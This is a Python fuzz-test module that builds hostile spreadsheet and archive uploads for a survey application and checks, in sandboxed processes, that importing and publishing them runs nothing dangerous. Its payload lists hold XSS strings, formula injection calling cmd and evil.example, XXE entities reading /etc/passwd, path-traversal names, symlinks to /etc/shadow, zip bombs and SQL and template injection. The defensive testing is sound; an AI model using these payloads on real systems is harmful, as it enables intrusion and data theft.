"""Hostile workbooks as somebody might hand them in: bombs, entities, scripts, formulas, path names, links, macros.

    python -m tests.fuzz.workbooks [--count 200] [--seed 1]

Each is brought in by a process of its own, as *Collect* does it: read, checked, published, written out again. There an
audit hook of the interpreter writes down everything that would be an execution: a program that is started, a
connection, a file written outside of the folder given, code compiled from the file. What was published is then asked of
a running server, as a start page and section by section, and its HTML is looked through for anything that a browser
would run or fetch. Bounded: SECONDS of processor time and MEGABYTES each.
"""

import argparse
import io
import json
import os
import re
import resource
import shutil
import signal
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from types import FrameType
from urllib.parse import urlencode, urlsplit

from data.backups import backup
from data.errors import SoundingsError
from data.settings import Settings
from data.store import Store, open_store
from survey import asking, preparation, publications, responses
from survey.access import OPERATOR
from survey.xlsform.sheets import read_sheets
from survey.xlsform.text_files import to_markdown
from survey.xlsform.workbook_writer import to_workbook
from tests.server.process import Server, now
from tests.survey.xlsform import test_hostile_files as files

SECONDS = 5.0
HANGS = 60
"""Of the clock; other programs may have the processor meanwhile."""
MEGABYTES = 400
"""Beside what the program itself has loaded."""
SCRIPTS = (
    "<script>fetch('http://evil.example/')</script>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    '"><iframe src="http://evil.example/"></iframe>',
    "[a](javascript:alert(1))",
    "[a]( java\tscript:alert(1))",
    "![a](http://evil.example/pixel.png)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example/?q=${a}>",
    "<style>@import 'http://evil.example/x.css'</style>",
    '<a href="vbscript:x" onclick="x">a</a>',
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "</title></textarea></style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{7*7}}{% for x in ().__class__.__mro__ %}$(7*7)#{7*7}<%= 7*7 %>",
    "%s%n{0.__class__.__init__.__globals__}",
    "\u202e<script>\u2066alert(1)",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "\t=1+1",
    "＝1+1",
)
PATHS = (
    "../../../../tmp/soundings-escaped",
    "..\\..\\escaped.xlsx",
    "/etc/cron.d/soundings",
    "C:\\Windows\\x.dll",
    "~/.bashrc",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "con",
    "a" * 5_000,
    "a\x00b",
)
EXPRESSIONS = (
    "__import__('os').system('id')",
    "pulldata('../../../../etc/passwd', 'a', 'b', 'c')",
    "instance('../../etc/passwd')/root/item[name=1]",
    "(" * 3_000 + "1" + ")" * 3_000,
    "regex(., '(a+)+$')",
    "concat(" + ",".join(["'x'"] * 5_000) + ")",
    "${a}" * 2_000,
    "1 or 1=1; DROP TABLE response; --",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file, and what is hostile in it."""

    kind: str
    name: str
    content: bytes


def hostile(seed: str) -> Hostile:
    """One hostile file, the same for the same seed."""
    draw = Random(seed)
    kind = draw.choice([*_KINDS, "scripts", "scripts", "scripts"])
    name, content = _KINDS[kind](draw)
    return Hostile(kind, name, content)


def _form(draw: Random, words: tuple[str, ...]) -> dict[str, bytes]:
    """The parts of a workbook with these words wherever words may stand."""

    def fill(book: object) -> None:
        survey = book.add_worksheet("survey")  # type: ignore[attr-defined]
        heads = ["type", "name", "label", "hint", "guidance_hint", "constraint_message", "relevant", "appearance"]
        rows = [
            ["note", "n", *[draw.choice(words) for _ in range(4)], "", ""],
            ["text", "a", *[draw.choice(words) for _ in range(4)], "", draw.choice(("", "multiline"))],
            ["select_one l", "b", *[draw.choice(words) for _ in range(4)], "", draw.choice(("", "minimal"))],
            ["select_multiple l", "c", *[draw.choice(words) for _ in range(4)], "", ""],
            ["rank l", "d", *[draw.choice(words) for _ in range(4)], "", ""],
            ["file", "e", *[draw.choice(words) for _ in range(4)], "", ""],
            ["begin group", "g", *[draw.choice(words) for _ in range(4)], "", draw.choice(("", "field-list"))],
            ["text", "h", *[draw.choice(words) for _ in range(4)], "", ""],
            ["end group", "", "", "", "", "", "", ""],
        ]
        for number, row in enumerate([heads, *rows]):
            for column, cell in enumerate(row):
                survey.write_string(number, column, cell[:32_000])
        choices = book.add_worksheet("choices")  # type: ignore[attr-defined]
        for number, row in enumerate([["list_name", "name", "label"], ["l", "x", words[0]], ["l", "y", words[-1]]]):
            for column, cell in enumerate(row):
                choices.write_string(number, column, cell[:32_000])
        settings = book.add_worksheet("settings")  # type: ignore[attr-defined]
        for column, (head, cell) in enumerate((("form_title", draw.choice(words)), ("form_id", "h"))):
            settings.write_string(0, column, head)
            settings.write_string(1, column, cell[:32_000])

    return files.workbook(fill)


def _words(words: tuple[str, ...]) -> Callable[[Random], tuple[str, bytes]]:
    def make(draw: Random) -> tuple[str, bytes]:
        chosen = tuple(draw.sample(words, min(len(words), 4)))
        chosen = tuple(word.replace("\x00", "") for word in chosen)
        return "form.xlsx", files.packed(_form(draw, chosen))

    return make


def _expressions(draw: Random) -> tuple[str, bytes]:
    column = draw.choice(("relevant", "constraint", "calculation", "choice_filter", "default", "required"))
    cell = draw.choice(EXPRESSIONS)
    text = f"type,name,label,{column}\ntext,a,A,\n{'calculate' if column == 'calculation' else 'text'},b,B,"
    return "form.zip", files.packed({"survey.csv": f'{text}"{cell}"\n'.encode()})


def _real_formulas(draw: Random) -> tuple[str, bytes]:
    """Cells that are formulas, with a value beside them."""
    parts = files.workbook(files.small)
    formula = draw.choice(FORMULAS[:7]).lstrip("=+-@").replace("&", "&amp;").replace("<", "&lt;")
    row = f'<row r="3"><c r="A3" t="str"><f>{formula}</f><v>text</v></c>'
    row += f'<c r="B3" t="str"><f>{formula}</f><v>b</v></c><c r="C3" t="str"><f>{formula}</f><v>=1+1</v></c></row>'
    sheet = parts[files.SHEET].replace(b"</sheetData>", row.encode() + b"</sheetData>")
    return "form.xlsx", files.packed(parts | {files.SHEET: sheet})


def _entry_names(draw: Random) -> tuple[str, bytes]:
    name = draw.choice(PATHS).replace("\x00", "") + draw.choice(("", ".csv", ".xlsx", ".geojson"))
    parts = {"form.xlsx": files.packed(files.workbook(files.small)), name[:3_000]: b"name,label\nx,X\n"}
    return draw.choice(("form.zip", "../form.zip", "/etc/form.zip")), files.packed(parts)


def _symbolic_link(draw: Random) -> tuple[str, bytes]:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("survey.csv", "type,name,label\nselect_one_from_file x.csv,a,A\n")
        link = zipfile.ZipInfo("x.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, draw.choice(("/etc/passwd", "../../../../etc/shadow")))
    return "form.zip", content.getvalue()


def _links(draw: Random) -> tuple[str, bytes]:
    """Links to files and hosts, data from elsewhere, and programs inside a workbook."""
    parts = files.workbook(files.small)
    target = draw.choice(("http://evil.example/x.xlsx", "file:///etc/passwd", "\\\\evil.example\\share\\x.xlsx"))
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    )
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for number, what in enumerate(("externalLinkPath", "hyperlink", "image", "oleObject", "attachedTemplate")):
        relation += f'<Relationship Id="x{number}" Type="{kind}/{what}" Target="{target}" TargetMode="External"/>'
    more = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": f"{relation}</Relationships>".encode(),
        "xl/worksheets/_rels/sheet1.xml.rels": f"{relation}</Relationships>".encode(),
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + draw.randbytes(3_000),
        "xl/connections.xml": f'<connections><connection id="1" odcFile="{target}"/></connections>'.encode(),
        "customUI/customUI.xml": b'<customUI onLoad="Auto_Open"/>',
    }
    return draw.choice(("form.xlsx", "form.xlsm")), files.packed(parts | more)


def _entities(draw: Random) -> tuple[str, bytes]:
    if draw.random() < 0.4:
        make = draw.choice(
            (files.laughing_workbook, files.outside_entity, files.hidden_entity, files.laughing_attachment)
        )
        content = make()
        return ("form.zip" if make is files.laughing_attachment else "form.xlsx"), content
    parts = files.workbook(files.small)
    part = draw.choice([name for name in parts if name.endswith((".xml", ".rels"))])
    system = draw.choice(
        ("file:///etc/passwd", "http://evil.example/x", "php://filter/x", "/dev/random", "expect://id")
    )
    declared = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "{system}"> %p; <!ENTITY x SYSTEM "{system}">]>'
    return "form.xlsx", files.packed(parts | {part: declared.encode() + parts[part].partition(b"?>")[2]})


def _bombs(draw: Random) -> tuple[str, bytes]:
    makes: Mapping[str, Callable[[], bytes]] = {
        "a.xlsx": files.bomb,
        "b.xlsx": files.lying_bomb,
        "c.zip": files.nested_bomb,
        "d.xlsx": files.many_entries,
        "e.xlsx": files.far_cell,
        "f.xlsx": files.wide_sheet,
        "g.zip": files.deep_geojson,
        "h.xlsx": files.empty_rows,
    }
    name = draw.choice(list(makes))
    return name, makes[name]()


def _spoiled(draw: Random) -> tuple[str, bytes]:
    content = bytearray(files.packed(_form(draw, SCRIPTS)))
    for _turn in range(draw.choice((1, 3, 30))):
        content[draw.randrange(len(content))] = draw.randrange(256)
    return "form.xlsx", bytes(content[: draw.choice((len(content), len(content) // 2, 30))])


def _two_at_once(draw: Random) -> tuple[str, bytes]:
    """A workbook behind the head of something else."""
    head = draw.choice(
        (b"%PDF-1.7\n", b"MZ\x90\x00", b"<html><script>alert(1)</script>", b"#!/bin/sh\nid\n", b"GIF89a")
    )
    content = head + files.packed(_form(draw, SCRIPTS[:4]))
    return draw.choice(("form.xlsx", "form.xls", "form.md", "form.zip")), content


_KINDS: Mapping[str, Callable[[Random], tuple[str, bytes]]] = {
    "scripts": _words(SCRIPTS),
    "formulas": _words(FORMULAS),
    "path names": _words(PATHS),
    "expressions": _expressions,
    "formulas of cells": _real_formulas,
    "names of entries": _entry_names,
    "symbolic links": _symbolic_link,
    "links and macros": _links,
    "entities": _entities,
    "bombs": _bombs,
    "spoiled": _spoiled,
    "two at once": _two_at_once,
}


# Bringing it in


@dataclass(frozen=True, slots=True)
class Brought:
    """What became of one file."""

    outcome: str
    seconds: float
    megabytes: float
    executed: tuple[str, ...] = ()
    slug: str = ""
    code: str = ""
    sections: tuple[str, ...] = ()


def bring_in(case: Hostile, database: Path, slug: str) -> Brought:
    """Does it in a child, watched and bounded."""
    with tempfile.TemporaryDirectory() as folder:
        told = Path(folder) / "told.json"
        child = os.fork()
        if not child:
            try:
                _child(case, database, slug, told)
            finally:
                os._exit(0)
        _pid, status = os.waitpid(child, 0)
        if status or not told.exists():
            return Brought(f"the process ended with {status}", HANGS, 0.0)
        said = json.loads(told.read_text())
    return Brought(**{**said, "executed": tuple(said["executed"]), "sections": tuple(said["sections"])})


class Hung(BaseException):
    """It did not come back."""


def _hang(_signal: int, _frame: FrameType | None) -> None:
    raise Hung


_RUN = (
    "subprocess.",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.system",
    "os.fork",
    "socket.",
    "urllib.",
    "ctypes.dl",
)


def _child(case: Hostile, database: Path, slug: str, told: Path) -> None:
    executed: list[str] = []
    tempfile.tempdir = str(told.parent)
    allowed = (str(database), str(told.parent), os.devnull)

    def watched(event: str, arguments: tuple[object, ...]) -> None:
        if event.startswith(_RUN):
            executed.append(f"{event} {arguments!r:.200}")
        elif event == "open" and isinstance(arguments[0], str | bytes | Path):
            path, mode = os.fsdecode(arguments[0]), str(arguments[1] or "")
            writes = any(sign in mode for sign in "wax+") or (isinstance(arguments[2], int) and arguments[2] & 0o3 != 0)
            if (writes and not path.startswith(allowed)) or path.startswith(
                ("/etc/passwd", "/etc/shadow", "/dev/random")
            ):
                executed.append(f"open {path} {mode}")
        elif event in ("exec", "compile") and b"evil.example" in repr(arguments).encode():
            executed.append(f"{event} {arguments!r:.200}")

    before = _resident_kb()
    signal.signal(signal.SIGALRM, _hang)
    signal.alarm(HANGS)
    began = time.process_time()
    result: dict[str, object] = {"code": "", "slug": "", "sections": []}
    sys.addaudithook(watched)
    try:
        result["outcome"] = "published"
        result |= _brought(case, database, slug)
    except SoundingsError as error:
        result["outcome"] = error.code
    except Hung:
        where = traceback.extract_tb(sys.exc_info()[2])[-3:]
        result["outcome"] = f"it did not come back: {[f'{frame.filename}:{frame.lineno}' for frame in where]}"
    except Exception as error:
        result["outcome"] = f"{type(error).__name__}: {str(error)[:200]}"
    signal.alarm(0)
    result["seconds"] = time.process_time() - began
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result["megabytes"] = max(peak - before, 0) / 1024
    result["executed"] = executed
    told.write_text(json.dumps(result))


def _resident_kb() -> int:
    found = re.search(r"VmRSS:\s*(\d+)", Path("/proc/self/status").read_text())
    return int(found[1]) if found else 0


def _brought(case: Hostile, database: Path, slug: str) -> dict[str, object]:
    sheets = read_sheets(case.content, case.name)
    written = to_workbook(sheets)
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        if any(b"<f>" in archive.read(name) for name in archive.namelist() if "/worksheets/" in name):
            raise AssertionError("a formula was written")
    to_markdown(sheets)
    store = open_store(Settings(database_url=f"sqlite:///{database}"))
    try:
        preparation.begin_project(store, name=slug, actor=OPERATOR, now=now(), content=case.content, filename=case.name)
        publications.publish(
            store, sheets, slug=slug, title={"en": f"{SCRIPTS[0]} {slug}"}, actor=OPERATOR, now=now(), fictional=True
        )
        code = responses.begin(store, slug, language="en", channel="light", now=now())
        shown = asking.shown_sections(responses.resume(store, code, now=now()).state)
        return {"slug": slug, "code": code, "sections": [section.name for section in shown]}
    finally:
        store.close()


# Looking at what is shown


class Page(HTMLParser):
    """Everything in a page that a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Is it ours?"""
        given = {name: value or "" for name, value in attributes}
        if tag in ("iframe", "object", "embed", "base", "svg", "math", "img", "frame", "applet", "video", "audio"):
            self.faults.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append("<meta http-equiv>")
        if tag == "script" and not given.get("src", "").startswith("/look/"):
            self.faults.append("<script>")
        for name, value in given.items():
            if name.startswith("on"):
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "srcset", "poster"):
                plain = re.sub(r"[\s\x00-\x20]", "", value).lower()
                parts = urlsplit(plain)
                allowed = (
                    ("", "http", "https", "mailto", "tel") if tag == "a" else ("", "data") if tag == "link" else ("",)
                )
                if parts.scheme not in allowed or (tag != "a" and parts.netloc):
                    self.faults.append(f"{tag} {name}={value[:60]}")
                if tag == "a" and parts.netloc and "noopener" not in given.get("rel", ""):
                    self.faults.append(f"a link with rel={given.get('rel', '')}")


def faults_of(server: Server, brought: Brought) -> list[str]:
    """What a browser would run or fetch in any page of it."""
    found = []
    places = ["", *({"r": brought.code, "s": section} for section in (*brought.sections, "_review"))]
    for place in places:
        address = f"/f/{brought.slug}" + (f"?{urlencode(place)}" if place else "")
        answer = server.get(address)
        if answer.status != 200:
            found.append(f"{address.partition('?')[0]}: status {answer.status}")
            continue
        page = Page()
        page.feed(answer.text)
        found += page.faults
    shell = server.get(f"/respond?c={brought.slug}").text
    found += ["the shell"] if SCRIPTS[0] in shell else []
    return found


def run(
    count: int, seed: int, folder: Path, store: Store, settings: Settings
) -> tuple[Counter[str], list[str], Brought]:
    """(outcomes, findings, the slowest and the largest as one) of so many files against a server of its own."""
    store.close()
    folder.mkdir(exist_ok=True)
    database = folder / "hostile.db"
    backup(settings, database)
    server = Server(database, demo="true", rate_limits="false")
    outcomes: Counter[str] = Counter()
    findings = []
    slowest = largest = 0.0
    try:
        server.wait()
        for number in range(count):
            case = hostile(f"{seed}/{number}")
            brought = bring_in(case, database, f"h-{number}")
            if brought.outcome.startswith("it did not") and brought.seconds < SECONDS:
                # It waited and did not work: a fork may inherit a lock. What hangs by itself hangs again.
                brought = bring_in(case, database, f"h-{number}-again")
            outcomes[f"{case.kind}: {brought.outcome}"] += 1
            slowest, largest = max(slowest, brought.seconds), max(largest, brought.megabytes)
            told = [*brought.executed]
            if ":" in brought.outcome or " " in brought.outcome:
                told.append(brought.outcome)
            if brought.seconds > SECONDS:
                told.append(f"{brought.seconds:.1f} s")
            if brought.megabytes > MEGABYTES:
                told.append(f"{brought.megabytes:.0f} MB")
            if brought.slug:
                told += faults_of(server, brought)
            findings += [f"{number} ({case.kind}, {case.name}): {one}" for one in told]
    finally:
        server.stop()
        shutil.rmtree(folder, ignore_errors=True)
    return outcomes, findings, Brought("", slowest, largest)


def main() -> int:
    """Brings them in, prints what became of them, and gives 1 when something was found."""
    parser = argparse.ArgumentParser(prog="tests.fuzz.workbooks", description="Hostile workbooks.")
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    with tempfile.TemporaryDirectory() as kept:
        settings = Settings(database_url=f"sqlite:///{kept}/empty.db")
        store = open_store(settings, migrate=True)
        began = time.monotonic()
        folder = Path(tempfile.mkdtemp())
        outcomes, findings, most = run(arguments.count, arguments.seed, folder, store, settings)
    print(f"{outcomes.total()} files in {time.monotonic() - began:.0f} s (seed {arguments.seed})")
    print(", ".join(f"{outcome}: {times}" for outcome, times in outcomes.most_common()))
    print(f"slowest {most.seconds:.1f} s of processor time, largest {most.megabytes:.0f} MB; findings: {len(findings)}")
    for finding in findings[:60]:
        print(finding)
    return bool(findings)


if __name__ == "__main__":
    raise SystemExit(main())
